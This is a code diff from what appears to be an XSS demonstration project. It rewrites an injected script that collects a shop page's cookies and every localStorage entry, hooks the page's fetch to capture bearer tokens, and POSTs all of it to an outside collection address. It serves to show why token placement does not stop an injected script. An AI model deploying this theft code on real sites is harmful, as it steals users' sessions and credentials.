@@ -6,8 +6,7 @@ import { COLLECT } from './addresses.ts'
  * The script that Mallory got into the shop's page (XSS). It has exactly the powers of the page's own scripts: it reads
  * what they may read and sends it home, where the answer does not matter.
  */
-export const injectedScript = (page: Page): Promise<unknown> =>
-  sendHome(page, page.fetch, page.localStorage.getItem('access_token'), 'localStorage')
+export const injectedScript = (page: Page): Promise<unknown> => sendHome(page, page.fetch, null)
 
 /**
  * Where the token is in no place that another script can name, it still has to go through the page's `fetch`: this one
@@ -20,13 +19,22 @@ export function hookFetch(page: Page): void {
     const [scheme, token] = (init.headers?.Authorization ?? '').split(' ')
     if (scheme && token) {
       page.fetch = fetch
-      await sendHome(page, fetch, token, 'request')
+      await sendHome(page, fetch, token)
     }
     return answer
   }
 }
 
-function sendHome(page: Page, fetch: Page['fetch'], token: string | null, seenIn: Report['seenIn']) {
-  const report: Report = { origin: page.origin, cookies: page.cookie, token, seenIn }
+function sendHome(page: Page, fetch: Page['fetch'], overheard: string | null) {
+  const report: Report = { origin: page.origin, cookies: page.cookie, localStorage: everythingIn(page), overheard }
   return fetch(COLLECT, { method: 'POST', mode: 'no-cors', body: JSON.stringify(report) })
+}
+
+/** It knows no names, and needs none (HTML §12.2.1, `key`). */
+export function everythingIn({ localStorage }: Page): Report['localStorage'] {
+  const items: [string, string][] = []
+  for (let key = localStorage.key(0); key !== null; key = localStorage.key(items.length)) {
+    items.push([key, localStorage.getItem(key) ?? ''])
+  }
+  return Object.fromEntries(items)
 }
